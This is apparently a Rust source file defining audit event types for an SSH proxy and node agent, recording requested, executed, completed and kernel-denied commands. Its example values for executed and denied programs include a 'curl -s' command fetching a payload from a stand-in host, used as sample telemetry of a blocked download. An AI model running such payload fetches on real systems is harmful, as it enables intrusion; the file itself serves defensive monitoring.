//! Commands: what the proxy was asked to run, and what a node's kernel saw running. Two facts, never counted as one.

use super::process::{Executable, Process, is_false};
use crate::event::ByteString;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

/// The longest command that stands whole in an event, in bytes; a longer one is cut, and marked with its
/// full length and SHA-256.
pub const COMMAND_BYTES_MAX: usize = 32 * 1024;

/// What kind of program a channel asked for (RFC 4254, 6.5).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// A login shell.
    Shell,
    /// One command.
    Exec,
    /// A subsystem, e.g. `sftp`.
    Subsystem,
}

/// A program was asked for and allowed; the target hasn't heard of it yet.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
pub struct Requested {
    /// What the client asked for, where its certificate forces `command` in the place of whatever is asked for.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub asked: Option<Asked>,
    /// The channel's number within the session.
    pub channel: u32,
    /// The command line or the subsystem's name; absent for a shell.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub command: Option<ByteString>,
    /// Where `command` was cut: its full length in bytes.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub command_bytes: Option<u64>,
    /// Where `command` was cut: SHA-256 of the whole, hex.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub command_sha256: Option<String>,
    /// Variables that the client set for it.
    #[serde(skip_serializing_if = "Vec::is_empty", default)]
    pub environment: Vec<Variable>,
    /// What kind.
    pub kind: Kind,
    /// Whether it has a terminal.
    pub terminal: bool,
}

/// What a client asked for and didn't get: the target's server tells the forced command of it
/// (`SSH_ORIGINAL_COMMAND`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Asked {
    /// The command line or the subsystem's name, its first 1,024 bytes; absent for a shell.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub command: Option<ByteString>,
    /// What kind.
    pub kind: Kind,
}

/// One environment variable.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Variable {
    /// Its name.
    pub name: ByteString,
    /// Its value, where it can't be a secret: locale and terminal. What else clients send is named only.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub value: Option<ByteString>,
}

impl Requested {
    pub(super) fn example() -> Self {
        Self {
            asked: None,
            channel: 0,
            command: Some("systemctl restart nginx".into()),
            command_bytes: None,
            command_sha256: None,
            environment: vec![Variable { name: "LANG".into(), value: Some("C.UTF-8".into()) }],
            kind: Kind::Exec,
            terminal: false,
        }
    }
}

/// A program ended, as the target told it.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
pub struct Completed {
    /// Bytes of its standard error.
    pub bytes_err: u64,
    /// Bytes that it was sent.
    pub bytes_in: u64,
    /// Bytes of its standard output.
    pub bytes_out: u64,
    /// The channel's number within the session.
    pub channel: u32,
    /// Its exit status (RFC 4254, 6.10).
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub exit_status: Option<u32>,
    /// SHA-256 of what it was sent, hex; for a command that isn't known to have a terminal and was sent 1,024 bytes or more. Less may be
    /// a password, and could be guessed from its hash.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub input_sha256: Option<String>,
    /// SHA-256 of its standard output, hex, where it is no sftp, has no terminal and the recording isn't known to hold all of it.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub output_sha256: Option<String>,
    /// The signal that ended it, without `SIG`.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub signal: Option<ByteString>,
}

impl Completed {
    pub(super) fn example() -> Self {
        Self {
            bytes_err: 0,
            bytes_in: 0,
            bytes_out: 512,
            channel: 0,
            exit_status: Some(0),
            input_sha256: None,
            output_sha256: None,
            signal: None,
        }
    }
}

/// A program that was allowed never ran, or its end never came.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
pub struct Failed {
    /// The channel's number within the session.
    pub channel: u32,
    /// Why.
    pub reason: String,
}

impl Failed {
    pub(super) fn example() -> Self {
        Self { channel: 0, reason: "the target refused the request".into() }
    }
}

/// A program ran on a node: what its kernel saw, whatever the session had typed.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
pub struct Executed {
    /// Its arguments, the first is what it is called by; at most [`COMMAND_BYTES_MAX`] bytes of them.
    pub arguments: Vec<ByteString>,
    /// How many bytes all arguments have, each with the zero byte that ends it.
    pub arguments_bytes: u64,
    /// How many arguments there are, where that is known.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub arguments_count: Option<u64>,
    /// `arguments` aren't all of them, or the last one isn't whole.
    #[serde(skip_serializing_if = "is_false", default)]
    pub arguments_cut: bool,
    /// The kernel couldn't read them.
    #[serde(skip_serializing_if = "is_false", default)]
    pub arguments_unreadable: bool,
    /// What it may do though it doesn't run as root, by file capabilities or in a user namespace (capabilities(7)), e.g. `CAP_NET_RAW`.
    #[serde(skip_serializing_if = "Vec::is_empty", default)]
    pub capabilities: Vec<String>,
    /// The control group, by its number in the kernel, decimal.
    pub cgroup: String,
    /// Its path below the root of cgroup2, where the process still was in it when the agent looked, and it isn't too long.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub cgroup_path: Option<ByteString>,
    /// The container whose control group it is.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub container: Option<Box<Container>>,
    /// The working directory.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub directory: Option<ByteString>,
    /// The directory's path isn't the whole one.
    #[serde(skip_serializing_if = "is_false", default)]
    pub directory_cut: bool,
    /// What runs: of a script, its interpreter.
    pub executable: Executable,
    /// What was asked to be run, as it was written; of a script, the script.
    pub given: ByteString,
    /// `given` isn't all of it: only its end could be told.
    #[serde(skip_serializing_if = "is_false", default)]
    pub given_cut: bool,
    /// The interpreter that a script names.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub interpreter: Option<ByteString>,
    /// Its mount namespace's number, where that isn't the one of the node's first process: its paths may lead elsewhere there.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub mount_namespace: Option<u32>,
    /// Its paths are those of another root than the node's.
    #[serde(skip_serializing_if = "is_false", default)]
    pub other_root: bool,
    /// The process.
    pub process: Process,
    /// Its terminal, e.g. `pts/3`.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub terminal: Option<Box<str>>,
    /// In whose name.
    pub users: Users,
}

/// A container, as the name of its control group tells.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Container {
    /// By which its runtime knows it.
    pub id: String,
    /// What runs it, where the name tells that: `docker`, `containerd`, `cri-o`, `podman`, `lxc`, `systemd-nspawn`.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub runtime: Option<String>,
}

/// In whose name a process acts (credentials(7)).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Users {
    /// The effective group.
    pub egid: u32,
    /// The effective user.
    pub euid: u32,
    /// The real group.
    pub gid: u32,
    /// The user who logged in, as the kernel's audit remembers.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub login_uid: Option<u32>,
    /// The real user.
    pub uid: u32,
}

impl Executed {
    pub(super) fn example() -> Self {
        Self {
            arguments: vec!["curl".into(), "-s".into(), "https://192.0.2.80/payload".into()],
            arguments_bytes: 35,
            arguments_count: Some(3),
            arguments_cut: false,
            arguments_unreadable: false,
            capabilities: vec!["CAP_NET_RAW".to_owned()],
            cgroup: "4242".into(),
            cgroup_path: Some(
                "/system.slice/docker-9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.scope"
                    .into(),
            ),
            container: Some(Box::new(Container {
                id: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
                runtime: Some("docker".into()),
            })),
            directory: Some("/home/deploy".into()),
            directory_cut: false,
            executable: Executable::example(),
            given: "/usr/bin/curl".into(),
            given_cut: false,
            interpreter: None,
            mount_namespace: None,
            other_root: false,
            process: Process::example(),
            terminal: Some("pts/3".into()),
            users: Users { egid: 1000, euid: 1000, gid: 1000, login_uid: Some(1000), uid: 1000 },
        }
    }
}

/// A process ended on a node.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
pub struct Exited {
    /// Whether its memory was written to a file.
    #[serde(skip_serializing_if = "is_false", default)]
    pub core_dumped: bool,
    /// How long it lived, in microseconds.
    pub duration_us: u64,
    /// Its exit status, where it ended by itself.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub exit_status: Option<u32>,
    /// The process.
    pub process: Process,
    /// The number of the signal that ended it (signal(7)).
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub signal: Option<u32>,
}

impl Exited {
    pub(super) fn example() -> Self {
        Self {
            core_dumped: false,
            duration_us: 118_203,
            exit_status: Some(0),
            process: Process::example(),
            signal: None,
        }
    }
}

/// Why a node's kernel ran no program.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Denial {
    /// A program that is denied.
    Denied,
    /// Programs are allowed by lists, and it isn't in all of them; or nobody has said what the session may run.
    NotAllowed,
    /// Which file it is couldn't be made out, so a restriction may speak of it.
    Unresolved,
    /// There was no room for its event, or nobody who takes it: no evidence, no effect.
    NoEvidence,
}

/// A program wasn't run: the node's kernel refused it.
#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
pub struct Denied {
    /// Its arguments, where the kernel had read them; at most [`COMMAND_BYTES_MAX`] bytes of them.
    #[serde(skip_serializing_if = "Vec::is_empty", default)]
    pub arguments: Vec<ByteString>,
    /// `arguments` aren't all of them, or the last one isn't whole.
    #[serde(skip_serializing_if = "is_false", default)]
    pub arguments_cut: bool,
    /// Whether the session ends for it.
    #[serde(skip_serializing_if = "is_false", default)]
    pub ends_session: bool,
    /// What was asked to be run, as it was written; of a file that should have been mapped as a program, its name.
    pub given: ByteString,
    /// `given` isn't all of it: its end could be told, or by LSM what comes first.
    #[serde(skip_serializing_if = "is_false", default)]
    pub given_cut: bool,
    /// The file that was refused, as the process sees it: of a script the script, or what should run it.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub path: Option<ByteString>,
    /// The path isn't the whole one: only its end could be told.
    #[serde(skip_serializing_if = "is_false", default)]
    pub path_cut: bool,
    /// The process that asked.
    pub process: Process,
    /// Why.
    pub reason: Denial,
    /// The restriction that says so.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub restriction: Option<String>,
}

impl Denied {
    pub(super) fn example() -> Self {
        Self {
            arguments: vec!["curl".into(), "-s".into(), "https://192.0.2.80/payload".into()],
            arguments_cut: false,
            ends_session: false,
            given: "/usr/bin/curl".into(),
            given_cut: false,
            path: Some("/usr/bin/curl".into()),
            path_cut: false,
            process: Process::example(),
            reason: Denial::Denied,
            restriction: Some("no-internet".into()),
        }
    }
}
